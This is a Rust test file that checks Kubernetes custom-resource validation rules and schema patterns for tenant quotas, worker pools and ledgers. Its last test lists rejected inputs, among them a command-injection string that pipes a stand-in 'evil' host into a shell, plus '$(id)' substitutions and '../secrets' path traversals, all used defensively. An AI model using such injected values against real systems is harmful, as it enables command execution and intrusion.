//! Each CEL rule and each pattern accepts one value and refuses another.
use crate::TopologyWish;
use crate::tenant_ledger::{TenantLedger, TenantLedgerSpec};
use crate::tenant_quota::{ResourceLimits, TenantQuota, TenantQuotaSpec};
use crate::worker_pool::{QueueSource, WorkerPool, WorkerPoolSpec};
use kube::CustomResourceExt;
use serde_json::{Value, json};

fn quota(name: &str, namespaces: &[&str]) -> TenantQuota {
    let spec: TenantQuotaSpec = serde_json::from_value(json!({ "namespaces": namespaces })).unwrap();
    TenantQuota::new(name, spec)
}

fn pool(min: i32, max: i32) -> WorkerPool {
    let spec: WorkerPoolSpec = serde_json::from_value(json!({
        "scaleTargetRef": { "apiVersion": "apps/v1", "kind": "Deployment", "name": "picker" },
        "minReplicas": min, "maxReplicas": max,
        "queueSources": [source()],
    }))
    .unwrap();
    WorkerPool::new("picker", spec)
}

fn source() -> Value {
    json!({ "type": "RedisStream", "redisStream": { "address": "redis:6379", "stream": "orders", "group": "picker" } })
}

fn refusal(result: Result<(), impl std::fmt::Display>) -> String {
    result.expect_err("the rule must refuse this").to_string()
}

#[test]
fn tenant_name_fits_a_label() {
    quota(&"a".repeat(63), &["shop"]).validate_cel().unwrap();
    assert!(refusal(quota(&"a".repeat(64), &["shop"]).validate_cel()).contains("63 characters"));
}

#[test]
fn system_namespaces_cannot_be_managed() {
    quota("acme", &["acme-prod"]).validate_cel().unwrap();
    assert!(refusal(quota("acme", &["acme-prod", "kube-system"]).validate_cel()).contains("cannot be managed"));
}

#[test]
fn pods_are_limited_by_concurrency() {
    ResourceLimits::validate_cel(&json!({ "hard": { "cpu": "4" } }), None).unwrap();
    let refused = ResourceLimits::validate_cel(&json!({ "hard": { "pods": "4" } }), None);
    assert!(refusal(refused).contains("spec.concurrency.hard"));
}

#[test]
fn bounds_are_ordered() {
    pool(4, 4).validate_cel().unwrap();
    assert!(refusal(pool(5, 4).validate_cel()).contains("minReplicas"));
}

#[test]
fn a_redis_stream_source_says_which() {
    QueueSource::validate_cel(&source(), None).unwrap();
    assert!(refusal(QueueSource::validate_cel(&json!({ "type": "RedisStream" }), None)).contains("needs redisStream"));
}

#[test]
fn isolated_cpus_are_no_shared_ones() {
    let in_a_pool = |topology: &Value| {
        let mut pool = pool(1, 2);
        pool.spec.topology = serde_json::from_value(topology.clone()).unwrap();
        pool.validate_cel()
    };
    for fine in [json!({}), json!({ "cpus": "Shared", "class": "Regular" }), json!({ "class": "Isolated" })] {
        TopologyWish::validate_cel(&fine, None).unwrap();
        in_a_pool(&fine).unwrap();
    }
    TopologyWish::validate_cel(&json!({ "cpus": "Exclusive", "class": "Isolated" }), None).unwrap();
    let neither = json!({ "cpus": "Shared", "class": "Isolated" });
    assert!(refusal(TopologyWish::validate_cel(&neither, None)).contains("class Isolated"));
    assert!(refusal(in_a_pool(&neither)).contains("class Isolated"));
}

#[test]
fn the_epoch_never_goes_back() {
    let at = |epoch| TenantLedger::new("acme", TenantLedgerSpec { epoch, ..TenantLedgerSpec::default() });
    at(3).validate_cel_update(&at(2)).unwrap();
    assert!(refusal(at(2).validate_cel_update(&at(3))).contains("never goes back"));
}

/// A pattern is a regular expression as `matches` of CEL takes it, so the rules' own engine can try it.
fn fits(field: &str, value: &str) -> bool {
    let crd = serde_json::to_value(WorkerPool::crd()).unwrap();
    let spec = &crd["spec"]["versions"][0]["schema"]["openAPIV3Schema"]["properties"]["spec"];
    let schema = field.split('.').fold(spec, |schema, name| {
        let schema = if schema["items"].is_object() { &schema["items"] } else { schema };
        &schema["properties"][name]
    });
    let pattern = schema["pattern"].as_str().unwrap_or_else(|| panic!("{field} has no pattern"));
    let rule = json!({ "rule": format!("self.matches('{pattern}')"), "message": field });
    let length = usize::try_from(schema["maxLength"].as_u64().unwrap()).unwrap();
    let schema = json!({ "type": "string", "x-kubernetes-validations": [rule] });
    value.len() <= length && kube::core::cel::Validator::new().validate(&schema, &json!(value), None).is_ok()
}

#[test]
fn names_that_are_printed_in_commands_are_names() {
    let cases: [(&str, &[&str], &[&str]); 5] = [
        (
            "queueSources.redisStream.passwordSecretRef.name",
            &["redis", "redis.v2-a"],
            &["x;curl evil|sh", "$(id)", "a b", "-a", "a\nb", "A", "a..b"],
        ),
        ("queueSources.redisStream.passwordSecretRef.key", &["password", "Pass_word.v-1"], &["a b", "`id`", "a/b", ""]),
        (
            "scaleTargetRef.apiVersion",
            &["v1", "apps/v1", "kwok.x-k8s.io/v1alpha1"],
            &["apps/", "/v1", "a/b/v1", "apps/v1?x", ".."],
        ),
        ("scaleTargetRef.kind", &["Deployment", "VMReplicaSet"], &["../x", "Deploy ment", "9x", ""]),
        ("scaleTargetRef.name", &["picker", "a.b-c"], &["../secrets", "a/b", "picker?x=y", "Picker", "a\n"]),
    ];
    for (field, good, bad) in cases {
        for value in good {
            assert!(fits(field, value), "{field} refuses {value:?}");
        }
        for value in bad {
            assert!(!fits(field, value), "{field} accepts {value:?}");
        }
        assert!(!fits(field, &"a".repeat(254)), "{field} has no bound");
    }
}
